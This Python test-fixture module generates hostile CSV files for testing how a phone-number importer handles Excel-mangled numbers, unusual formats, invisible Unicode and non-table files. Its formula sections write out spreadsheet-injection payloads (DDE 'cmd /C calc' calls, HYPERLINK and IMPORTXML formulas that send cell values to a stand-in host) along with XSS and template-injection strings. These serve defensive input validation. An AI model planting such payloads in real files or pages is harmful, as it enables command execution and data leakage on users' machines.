"""What Excel, people and attackers put into the cells of numbers."""

from lambdas.files.errors import Fault

from .corpus import Hostile, us, written

_A = us(1)
_DIGITS = _A[1:]
_NATIONAL = f"({_A[2:5]}) {_A[5:8]}-{_A[8:]}"
_LONDON = "+442079460123"
_ACCENT, _LIGATURE = "\u0301", "\ufdfa"


def _column(name: str, why: str, *cells: str, **told: object) -> Hostile:
    """A list of one column, so that nothing but the cells matters."""
    quoted = ['"' + cell.replace('"', '""') + '"' for cell in cells]
    content = written(["Phone", *quoted, us(0)])
    last = len(cells) + 2
    dials = {**told.get("dials", {}), last: us(0)}  # type: ignore[dict-item]
    return Hostile(
        name,
        why,
        content,
        range(2, last + 1),
        dials=dials,
        codes=told.get("codes", {}),  # type: ignore[arg-type]
    )


EXCEL = (
    _column(
        "scientific.csv",
        "numbers as powers of ten",
        "4.42079E+11", "4,42079E+11", "1.2E+10", "1.2065550101e10", "1.20655501010E+10",
        codes={2: "digits_lost", 3: "digits_lost", 4: "digits_lost"},
        dials={5: _A, 6: _A},
    ),
    _column(
        "floats.csv",
        "numbers with decimals",
        f"{_DIGITS}.0", f"{_DIGITS},00", f"{_DIGITS}.5", "12,065,550,101",
        dials={2: _A, 3: _A, 5: _A},
    ),
    _column("lostplus.csv", "the plus is gone", _DIGITS, f" {_DIGITS}", dials={2: _A, 3: _A}),
    _column("lostzero.csv", "the leading zero is gone", "2079460123", "7700900123"),
    _column("dates.csv", "dates instead of numbers", "01.02.2024", "2024-01-02 00:00", "Jan 55"),
    _column(
        "text.csv",
        "numbers forced to be text",
        f"'{_A}", f"’{_A}", f'="{_A}"', f"`{_DIGITS}", f'=T("{_A}")',
        dials={2: _A, 3: _A, 4: _A, 5: _A},
    ),
    _column(
        "errors.csv",
        "values of failed formulas",
        "#N/A", "#REF!", "#VALUE!", "#NAME?", "#NV", "#BEZUG!", "#####", "########",
        codes={2: "error_value", 7: "error_value", 8: "column_too_narrow"},
    ),
    _column(
        "formulas.csv",
        "formulas that would run in a spreadsheet",
        f'=HYPERLINK("http://example.invalid/?"&A2,"{_A}")', "=CMD|'/C calc'!A0",
        "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3", "=1+1", "＝1+1", "＋1", "－1",
        "＠SUM(1)", '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r\n=1+1", " =1+1", "%0A=1+1",
        "=IMPORTXML(CONCAT(\"http://example.invalid/\",A2),\"//a\")", ";=1+1", "|=1+1",
        f"{_A}=1+1", f"{_A}\n=1+1",
    ),
    Hostile(
        "formulanames.csv",
        "formulas in every other column",
        written(
            [
                "Phone,Source,Campaign,Name",
                f"{us(0)},=1+1,@SUM(1),\"=cmd|'/C calc'!A0\"",
                f"{us(1)},+1,-1,\"=HYPERLINK(\"\"http://example.invalid\"\",\"\"x\"\")\"",
                f"{us(2)},<b>x</b>,<script>alert(1)</script>,<img src=x onerror=alert(1)>",
                f"{us(3)},\"\"\" onmouseover=\"\"alert(1)\",{{{{7*7}}}},${{7*7}}",
                "oops,＝1+1,\u200b=1+1,\ufeff=1+1",
            ]
        ),
        range(2, 7),
        dials={2: us(0), 3: us(1), 4: us(2), 5: us(3)},
    ),
)  # fmt: skip

FORMATS = (
    _column(
        "uris.csv",
        "addresses of a telephone",
        f"tel:{_A}", f"tel:{_A};ext=12", f"TEL:{_A}", f"sip:{_A}@example.invalid", "callto:x",
        dials={2: _A},
    ),
    _column(
        "zero.csv",
        "a zero in brackets",
        "+44 (0)20 7946 0123", "0044 (0) 20 7946 0123", "+44 0 20 7946 0123",
        dials={2: _LONDON},
    ),
    _column(
        "extensions.csv",
        "extensions",
        f"{_NATIONAL} x12", f"{_A} ext. 5", f"{_A};12", f"{_A},,,12#", f"{_A} # 7", f"{_A} доб. 3",
    ),
    _column("letters.csv", "letters for digits", "1-206-555-HELP", "+1 206 555 O1O1", "CALL ME"),
    _column(
        "digits.csv",
        "digits of other scripts",
        "＋１２０６５５５０１０１", "+١٢٠٦٥٥٥٠١٠١", "+۱۲۰۶۵۵۵۰۱۰۱", "+१२०६५५५०१०१", "①②③④⑤⑥⑦⑧⑨⑩",
        dials={2: _A},
    ),
    _column(
        "marks.csv",
        "marks that cannot be seen",
        f"\u202a{_A}\u202c", f"\u200e{_A}\u200f", f"{_A[:4]}\u200b{_A[4:]}", f"\u2066{_A}\u2069",
        f"{_A[:4]}\u00ad{_A[4:]}", f"\ufeff{_A}",
        dials={2: _A, 3: _A, 4: _A, 5: _A, 6: _A, 7: _A},
    ),
    _column(
        "blanks.csv",
        "blanks that do not break",
        "+1\u00a0206\u00a0555\u00a00101", "+1\u202f206\u2009555\u30000101",
        dials={2: _A, 3: _A},
    ),
    _column(
        "dashes.csv",
        "every dash there is",
        "+1-206\u2010555\u20110101", "+1 206\u2012555\u20130101", "+1 206\u2014555\u22120101",
        "+1.206.555.0101", "+1/206/555/0101", "+1·206·555·0101",
        dials={2: _A, 3: _A},
    ),
    _column(
        "two.csv",
        "two numbers in one cell",
        f"{us(2)} / {us(3)}", f"{us(2)};{us(3)}", f"{us(2)}, {us(3)}", f"{us(2)} or {us(3)}",
        f"{us(2)}\n{us(3)}", f"{us(2)}{us(3)}", f"{_NATIONAL}/02",
    ),
    _column(
        "nothing.csv",
        "words for nothing",
        "n/a", "none", "-", "—", "?", "0", "00000000000", "unknown", "NULL", "\\N", "nan", "None",
        "true", "FALSE", "[]", "{}", "undefined",
    ),
    _column(
        "odd.csv",
        "what is no number at all",
        "911", "+", "++12065550101", "+1", "1" * 400, "😀", "\u0000\u0001", "a" * 5_000,
        "(((((((((((((((((((((", "ann@example.invalid", "http://example.invalid/+12065550101",
        "1e999", "-1e999", "0x1F", "1_206_555_0101", "Infinity", "١", "²³¹", "\u0661\u0662",
    ),
    Hostile(
        "combining.csv",
        "thousands of accents on one letter",
        written(["Phone,Name", f"{us(0)},Z{_ACCENT * 9_000}", f"{_ACCENT * 9_000}{us(1)},x"]),
        (2, 3),
        dials={2: us(0)},
    ),
    Hostile(
        "expanding.csv",
        "a character that becomes eighteen",
        written(["Phone,Name", f"{us(0)},x", f"{_LIGATURE * 9_000},x"]),
        (2, 3),
        dials={2: us(0)},
    ),
)  # fmt: skip

FOREIGN = (
    Hostile("empty.csv", "no bytes", lambda: b"", fault=Fault.EMPTY),
    Hostile("headingonly.csv", "only a heading", written(["Phone,Name"]), fault=Fault.HEADER_ONLY),
    Hostile(
        "page.csv",
        "a web page",
        lambda: b"<!DOCTYPE html><table><tr><td>+12065550101",
        fault=Fault.WEB_PAGE,
    ),
    Hostile("pdf.csv", "a PDF", lambda: b"%PDF-1.4\n%\xe2\xe3", fault=Fault.PDF),
    Hostile("json.csv", "JSON", lambda: b'{"rows": [{"phone": 1}]}', fault=Fault.NOT_A_TABLE),
    Hostile(
        "jsonlines.csv",
        "JSON, an object a line",
        lambda: b'{"phone": "+12065550101"}\n' * 9,
        fault=Fault.NOT_A_TABLE,
    ),
    Hostile("image.csv", "a picture", lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), fault=Fault.IMAGE),
    Hostile(
        "noise.csv",
        "noise",
        lambda: bytes((i * i * 7919 >> 3) & 255 for i in range(9_999)),
        fault=Fault.NOT_A_TABLE,
    ),
)

CELLS = (*EXCEL, *FORMATS, *FOREIGN)
